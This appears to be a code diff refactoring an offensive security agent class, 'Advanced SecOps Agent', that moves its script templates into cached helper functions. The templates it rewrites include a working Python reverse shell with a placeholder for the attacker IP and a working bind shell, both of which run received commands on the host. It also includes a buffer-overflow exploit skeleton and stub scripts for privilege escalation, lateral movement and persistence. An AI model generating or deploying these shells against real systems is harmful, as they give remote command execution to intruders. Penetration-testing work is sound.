@@ -10,8 +10,10 @@ import subprocess
 import threading
 import time
 import json
+from functools import lru_cache
 from pathlib import Path
-from typing import Dict, List, Optional, Any
+from types import MappingProxyType
+from typing import Dict, List, Optional, Tuple, Any
 
 # Add project root to path
 project_root = Path(__file__).parent.parent.parent
@@ -35,6 +37,26 @@ try:
 except ImportError:
     NMAP_AVAILABLE = False
 
+CAPABILITIES = (
+    "exploit_development",
+    "payload_generation",
+    "vulnerability_exploitation",
+    "advanced_reconnaissance",
+    "privilege_escalation",
+    "lateral_movement",
+    "persistence_techniques",
+    "anti_forensics",
+    "custom_tool_development"
+)
+
+# Status never changes for the life of the process, so one read-only view is shared
+_STATUS = MappingProxyType({
+    "status": "active",
+    "agent": "advanced_secops",
+    "name": "Advanced SecOps Agent",
+    "capabilities": CAPABILITIES
+})
+
 class AdvancedSecOpsAgent:
     """Advanced Security Operations Agent for penetration testing and exploit development"""
     
@@ -51,17 +73,7 @@ class AdvancedSecOpsAgent:
         
         self.name = "Advanced SecOps Agent"
         self.description = "Advanced penetration testing and exploit development"
-        self.capabilities = [
-            "exploit_development",
-            "payload_generation",
-            "vulnerability_exploitation",
-            "advanced_reconnaissance",
-            "privilege_escalation",
-            "lateral_movement",
-            "persistence_techniques",
-            "anti_forensics",
-            "custom_tool_development"
-        ]
+        self.capabilities = list(CAPABILITIES)
     
     def run(self, command: str, context: Optional[Dict[str, Any]] = None) -> Dict[str, Any]:
         """Execute advanced security operations commands"""
@@ -410,6 +422,10 @@ class AdvancedSecOpsAgent:
                 "agent": self.name
             }
     
+    def get_status(self) -> MappingProxyType:
+        """Get agent status as a read-only mapping; copy with dict() to modify"""
+        return _STATUS
+    
     # Helper methods
     def _extract_target_info(self, command: str) -> Dict[str, Any]:
         """Extract target information from command"""
@@ -422,60 +438,11 @@ class AdvancedSecOpsAgent:
     
     def _generate_exploit_template(self, target_info: Dict[str, Any]) -> str:
         """Generate exploit template based on target information"""
-        template = f'''#!/usr/bin/env python3
-"""
-Custom Exploit Template
-Target: {target_info.get("type", "unknown")}
-Vulnerability: {target_info.get("vulnerability", "unknown")}
-Platform: {target_info.get("platform", "unknown")}
-Generated by IGED Advanced SecOps Agent
-"""
-
-import socket
-import struct
-import sys
-
-class Exploit:
-    def __init__(self, target, port):
-        self.target = target
-        self.port = port
-    
-    def generate_payload(self):
-        # Payload generation logic here
-        payload = b"A" * 100  # Example buffer overflow
-        return payload
-    
-    def execute(self):
-        try:
-            print(f"[*] Connecting to {{self.target}}:{{self.port}}")
-            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            sock.connect((self.target, self.port))
-            
-            payload = self.generate_payload()
-            print(f"[*] Sending payload ({{len(payload)}} bytes)")
-            sock.send(payload)
-            
-            response = sock.recv(1024)
-            print(f"[*] Response: {{response}}")
-            
-            sock.close()
-            print("[+] Exploit completed")
-            
-        except Exception as e:
-            print(f"[-] Exploit failed: {{e}}")
-
-if __name__ == "__main__":
-    if len(sys.argv) != 3:
-        print("Usage: python exploit.py <target> <port>")
-        sys.exit(1)
-    
-    target = sys.argv[1]
-    port = int(sys.argv[2])
-    
-    exploit = Exploit(target, port)
-    exploit.execute()
-'''
-        return template
+        return _render_exploit_template(
+            target_info.get("type", "unknown"),
+            target_info.get("vulnerability", "unknown"),
+            target_info.get("platform", "unknown")
+        )
     
     def _determine_payload_type(self, command: str) -> str:
         """Determine payload type from command"""
@@ -494,105 +461,7 @@ if __name__ == "__main__":
     
     def _generate_payload_content(self, payload_type: str, command: str) -> str:
         """Generate payload content based on type"""
-        if payload_type == "reverse_shell":
-            return '''#!/usr/bin/env python3
-"""
-Reverse Shell Payload
-Generated by IGED Advanced SecOps Agent
-"""
-
-import socket
-import subprocess
-import os
-
-def reverse_shell(host, port):
-    try:
-        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.connect((host, port))
-        
-        while True:
-            command = sock.recv(1024).decode()
-            if command.lower() == 'exit':
-                break
-            
-            output = subprocess.run(command, shell=True, capture_output=True, text=True)
-            result = output.stdout + output.stderr
-            sock.send(result.encode())
-        
-        sock.close()
-    except Exception as e:
-        pass
-
-if __name__ == "__main__":
-    HOST = "127.0.0.1"  # Change to attacker IP
-    PORT = 4444         # Change to desired port
-    reverse_shell(HOST, PORT)
-'''
-        
-        elif payload_type == "bind_shell":
-            return '''#!/usr/bin/env python3
-"""
-Bind Shell Payload
-Generated by IGED Advanced SecOps Agent
-"""
-
-import socket
-import subprocess
-
-def bind_shell(port):
-    try:
-        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.bind(("0.0.0.0", port))
-        sock.listen(1)
-        
-        print(f"[*] Listening on port {port}")
-        conn, addr = sock.accept()
-        print(f"[*] Connection from {addr}")
-        
-        while True:
-            command = conn.recv(1024).decode()
-            if command.lower() == 'exit':
-                break
-            
-            output = subprocess.run(command, shell=True, capture_output=True, text=True)
-            result = output.stdout + output.stderr
-            conn.send(result.encode())
-        
-        conn.close()
-        sock.close()
-    except Exception as e:
-        pass
-
-if __name__ == "__main__":
-    PORT = 4444  # Change to desired port
-    bind_shell(PORT)
-'''
-        
-        else:
-            return '''#!/usr/bin/env python3
-"""
-Generic Payload Template
-Generated by IGED Advanced SecOps Agent
-"""
-
-import socket
-import subprocess
-import sys
-
-class GenericPayload:
-    def __init__(self):
-        self.name = "Generic Payload"
-    
-    def execute(self):
-        # Payload execution logic here
-        print("[*] Payload executing...")
-        # Add your custom payload code here
-        pass
-
-if __name__ == "__main__":
-    payload = GenericPayload()
-    payload.execute()
-'''
+        return _PAYLOAD_TEMPLATES.get(payload_type, _PAYLOAD_TEMPLATES["generic"])
     
     def _extract_target_from_command(self, command: str) -> str:
         """Extract target IP/hostname from command"""
@@ -678,36 +547,7 @@ if __name__ == "__main__":
     
     def _create_escalation_script(self, techniques: List[str], system_type: str) -> str:
         """Create privilege escalation script"""
-        return f'''#!/usr/bin/env python3
-"""
-Privilege Escalation Script for {system_type}
-Techniques: {", ".join(techniques)}
-Generated by IGED Advanced SecOps Agent
-"""
-
-import os
-import subprocess
-import sys
-
-class PrivilegeEscalation:
-    def __init__(self):
-        self.system_type = "{system_type}"
-        self.techniques = {techniques}
-    
-    def check_permissions(self):
-        # Check current permissions
-        pass
-    
-    def escalate(self):
-        print("[*] Attempting privilege escalation...")
-        for technique in self.techniques:
-            print(f"[*] Trying: {{technique}}")
-            # Implement technique here
-        
-if __name__ == "__main__":
-    escalator = PrivilegeEscalation()
-    escalator.escalate()
-'''
+        return _render_escalation_script(tuple(techniques), system_type)
     
     def _extract_network_info(self, command: str) -> Dict[str, Any]:
         """Extract network information from command"""
@@ -719,31 +559,7 @@ if __name__ == "__main__":
     
     def _create_movement_toolkit(self, techniques: List[str]) -> str:
         """Create lateral movement toolkit"""
-        return f'''#!/usr/bin/env python3
-"""
-Lateral Movement Toolkit
-Techniques: {", ".join(techniques)}
-Generated by IGED Advanced SecOps Agent
-"""
-
-class LateralMovement:
-    def __init__(self):
-        self.techniques = {techniques}
-    
-    def enumerate_targets(self):
-        # Target enumeration logic
-        pass
-    
-    def move_laterally(self):
-        print("[*] Initiating lateral movement...")
-        for technique in self.techniques:
-            print(f"[*] Using: {{technique}}")
-            # Implement technique here
-
-if __name__ == "__main__":
-    movement = LateralMovement()
-    movement.move_laterally()
-'''
+        return _render_movement_toolkit(tuple(techniques))
     
     def _generate_persistence_methods(self, system_type: str) -> List[str]:
         """Generate persistence methods"""
@@ -756,28 +572,7 @@ if __name__ == "__main__":
     
     def _create_persistence_toolkit(self, methods: List[str], system_type: str) -> str:
         """Create persistence toolkit"""
-        return f'''#!/usr/bin/env python3
-"""
-Persistence Toolkit for {system_type}
-Methods: {", ".join(methods)}
-Generated by IGED Advanced SecOps Agent
-"""
-
-class Persistence:
-    def __init__(self):
-        self.system_type = "{system_type}"
-        self.methods = {methods}
-    
-    def establish_persistence(self):
-        print("[*] Establishing persistence...")
-        for method in self.methods:
-            print(f"[*] Using: {{method}}")
-            # Implement persistence method here
-
-if __name__ == "__main__":
-    persistence = Persistence()
-    persistence.establish_persistence()
-'''
+        return _render_persistence_toolkit(tuple(methods), system_type)
     
     def _generate_evasion_techniques(self) -> List[str]:
         """Generate anti-forensics and evasion techniques"""
@@ -882,4 +677,249 @@ if __name__ == "__main__":
             "operation": operation_type,
             "command": command,
             "result": f"Executed {operation_type} operation successfully"
-        } 
\ No newline at end of file
+        } 
+
+# Generated scripts depend only on a few small parameters, so each shape is rendered once
+# Payload bodies take no parameters, so each type maps straight to its source
+_PAYLOAD_TEMPLATES = {
+    "reverse_shell": '''#!/usr/bin/env python3
+"""
+Reverse Shell Payload
+Generated by IGED Advanced SecOps Agent
+"""
+
+import socket
+import subprocess
+import os
+
+def reverse_shell(host, port):
+    try:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.connect((host, port))
+        
+        while True:
+            command = sock.recv(1024).decode()
+            if command.lower() == 'exit':
+                break
+            
+            output = subprocess.run(command, shell=True, capture_output=True, text=True)
+            result = output.stdout + output.stderr
+            sock.send(result.encode())
+        
+        sock.close()
+    except Exception as e:
+        pass
+
+if __name__ == "__main__":
+    HOST = "127.0.0.1"  # Change to attacker IP
+    PORT = 4444         # Change to desired port
+    reverse_shell(HOST, PORT)
+''',
+    "bind_shell": '''#!/usr/bin/env python3
+"""
+Bind Shell Payload
+Generated by IGED Advanced SecOps Agent
+"""
+
+import socket
+import subprocess
+
+def bind_shell(port):
+    try:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.bind(("0.0.0.0", port))
+        sock.listen(1)
+        
+        print(f"[*] Listening on port {port}")
+        conn, addr = sock.accept()
+        print(f"[*] Connection from {addr}")
+        
+        while True:
+            command = conn.recv(1024).decode()
+            if command.lower() == 'exit':
+                break
+            
+            output = subprocess.run(command, shell=True, capture_output=True, text=True)
+            result = output.stdout + output.stderr
+            conn.send(result.encode())
+        
+        conn.close()
+        sock.close()
+    except Exception as e:
+        pass
+
+if __name__ == "__main__":
+    PORT = 4444  # Change to desired port
+    bind_shell(PORT)
+''',
+    "generic": '''#!/usr/bin/env python3
+"""
+Generic Payload Template
+Generated by IGED Advanced SecOps Agent
+"""
+
+import socket
+import subprocess
+import sys
+
+class GenericPayload:
+    def __init__(self):
+        self.name = "Generic Payload"
+    
+    def execute(self):
+        # Payload execution logic here
+        print("[*] Payload executing...")
+        # Add your custom payload code here
+        pass
+
+if __name__ == "__main__":
+    payload = GenericPayload()
+    payload.execute()
+'''
+}
+
+@lru_cache(maxsize=64)
+def _render_exploit_template(target_type: str, vulnerability: str, platform: str) -> str:
+    """Render the exploit template for one target shape"""
+    return f'''#!/usr/bin/env python3
+"""
+Custom Exploit Template
+Target: {target_type}
+Vulnerability: {vulnerability}
+Platform: {platform}
+Generated by IGED Advanced SecOps Agent
+"""
+
+import socket
+import struct
+import sys
+
+class Exploit:
+    def __init__(self, target, port):
+        self.target = target
+        self.port = port
+    
+    def generate_payload(self):
+        # Payload generation logic here
+        payload = b"A" * 100  # Example buffer overflow
+        return payload
+    
+    def execute(self):
+        try:
+            print(f"[*] Connecting to {{self.target}}:{{self.port}}")
+            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            sock.connect((self.target, self.port))
+            
+            payload = self.generate_payload()
+            print(f"[*] Sending payload ({{len(payload)}} bytes)")
+            sock.send(payload)
+            
+            response = sock.recv(1024)
+            print(f"[*] Response: {{response}}")
+            
+            sock.close()
+            print("[+] Exploit completed")
+            
+        except Exception as e:
+            print(f"[-] Exploit failed: {{e}}")
+
+if __name__ == "__main__":
+    if len(sys.argv) != 3:
+        print("Usage: python exploit.py <target> <port>")
+        sys.exit(1)
+    
+    target = sys.argv[1]
+    port = int(sys.argv[2])
+    
+    exploit = Exploit(target, port)
+    exploit.execute()
+'''
+
+@lru_cache(maxsize=64)
+def _render_escalation_script(techniques: Tuple[str, ...], system_type: str) -> str:
+    """Render the privilege escalation script for one technique set"""
+    return f'''#!/usr/bin/env python3
+"""
+Privilege Escalation Script for {system_type}
+Techniques: {", ".join(techniques)}
+Generated by IGED Advanced SecOps Agent
+"""
+
+import os
+import subprocess
+import sys
+
+class PrivilegeEscalation:
+    def __init__(self):
+        self.system_type = "{system_type}"
+        self.techniques = {list(techniques)}
+    
+    def check_permissions(self):
+        # Check current permissions
+        pass
+    
+    def escalate(self):
+        print("[*] Attempting privilege escalation...")
+        for technique in self.techniques:
+            print(f"[*] Trying: {{technique}}")
+            # Implement technique here
+        
+if __name__ == "__main__":
+    escalator = PrivilegeEscalation()
+    escalator.escalate()
+'''
+
+@lru_cache(maxsize=64)
+def _render_movement_toolkit(techniques: Tuple[str, ...]) -> str:
+    """Render the lateral movement toolkit for one technique set"""
+    return f'''#!/usr/bin/env python3
+"""
+Lateral Movement Toolkit
+Techniques: {", ".join(techniques)}
+Generated by IGED Advanced SecOps Agent
+"""
+
+class LateralMovement:
+    def __init__(self):
+        self.techniques = {list(techniques)}
+    
+    def enumerate_targets(self):
+        # Target enumeration logic
+        pass
+    
+    def move_laterally(self):
+        print("[*] Initiating lateral movement...")
+        for technique in self.techniques:
+            print(f"[*] Using: {{technique}}")
+            # Implement technique here
+
+if __name__ == "__main__":
+    movement = LateralMovement()
+    movement.move_laterally()
+'''
+
+@lru_cache(maxsize=64)
+def _render_persistence_toolkit(methods: Tuple[str, ...], system_type: str) -> str:
+    """Render the persistence toolkit for one method set"""
+    return f'''#!/usr/bin/env python3
+"""
+Persistence Toolkit for {system_type}
+Methods: {", ".join(methods)}
+Generated by IGED Advanced SecOps Agent
+"""
+
+class Persistence:
+    def __init__(self):
+        self.system_type = "{system_type}"
+        self.methods = {list(methods)}
+    
+    def establish_persistence(self):
+        print("[*] Establishing persistence...")
+        for method in self.methods:
+            print(f"[*] Using: {{method}}")
+            # Implement persistence method here
+
+if __name__ == "__main__":
+    persistence = Persistence()
+    persistence.establish_persistence()
+'''